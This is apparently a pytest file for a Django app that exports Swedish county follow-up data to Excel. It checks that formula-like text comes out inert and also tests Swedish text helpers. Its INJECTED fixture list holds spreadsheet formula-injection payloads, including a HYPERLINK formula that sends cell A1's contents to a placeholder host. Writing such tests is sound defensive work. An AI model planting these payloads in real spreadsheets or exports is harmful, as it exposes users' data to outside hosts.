"""Text that looks like a formula comes out inert; numbers stay numbers; sentences join right."""

import io

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from agreements.models import County
from followup.exports.county import write_county_workbook
from followup.exports.statements import (
    CountyAssessment,
    counties_working_with,
    join_names,
    percent_text,
)
from followup.exports.writer import Book, Column, Kind, write_data_sheet
from tests import builders, exports_builders

INJECTED = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "-1+1",
    "+46 8 123 45",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_is_a_quoted_string_and_numbers_stay_numbers():
    output = io.BytesIO()
    book = Book(output, title="Test", subject="Test")
    columns = [Column("Text", 20), Column("Belopp", 12, Kind.KRONOR)]
    write_data_sheet(book, "Blad", columns, [(text, -1500.5) for text in INJECTED])
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(output.getvalue()))["Blad"]
    for row, text in enumerate(INJECTED, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s"
        # XlsxWriter writes a carriage return as the OOXML escape _x000D_, which Excel reads.
        assert unescape(cell.value) == text
        assert cell.quotePrefix
        number = sheet.cell(row, 2)
        assert number.data_type == "n" and number.value == -1500.5


@pytest.mark.django_db
def test_injected_names_in_the_register_come_out_inert():
    round_obj = builders.follow_up_round(year=2001)
    agreement = exports_builders.register(projects=0)
    area = agreement.priority_areas.first() or builders.priority_area(agreement_obj=agreement)
    measure = area.measures.first() or builders.measure(area=area)
    owner = builders.organisation(name=INJECTED[0])
    builders.project(measure_obj=measure, title="-1+1", owner=owner)
    output = io.BytesIO()
    write_county_workbook(
        output, county=County.objects.get(code="04"), round_obj=round_obj, show_report=True
    )
    book = openpyxl.load_workbook(io.BytesIO(output.getvalue()))
    projects = book["Projekt"]
    headers = [c.value for c in projects[1]]
    title = projects.cell(2, headers.index("Projektnamn") + 1)
    owner_cell = projects.cell(2, headers.index("Projektägare") + 1)
    assert (title.value, title.data_type) == ("-1+1", "s")
    assert (owner_cell.value, owner_cell.data_type) == (INJECTED[0], "s")
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert all(not str(c.value).startswith(("=HYPERLINK", "=-1", "=1+1")) for c in formulas)


def test_join_names_in_swedish():
    assert join_names([]) == ""
    assert join_names(["Skåne"]) == "Skåne"
    assert join_names(["Skåne", "Värmland"]) == "Skåne och Värmland"
    assert join_names(["Södermanland", "Östergötland", "Skåne"]) == (
        "Södermanland, Östergötland och Skåne"
    )


def test_working_with_means_established_or_stronger_strongest_first_then_code():
    given = [
        CountyAssessment("17", "Värmland", 3),
        CountyAssessment("05", "Östergötland", 4),
        CountyAssessment("01", "Stockholm", 2),
        CountyAssessment("04", "Södermanland", 4),
        CountyAssessment("12", "Skåne", 3),
    ]
    assert counties_working_with(given) == ["Södermanland", "Östergötland", "Skåne", "Värmland"]


def test_percent_text_rounds_half_up_and_names_small_shares():
    from decimal import Decimal

    assert percent_text(Decimal("0.245")) == "25 %"
    assert percent_text(Decimal("0.004")) == "under 1 %"
    assert percent_text(Decimal("0")) == "0 %"
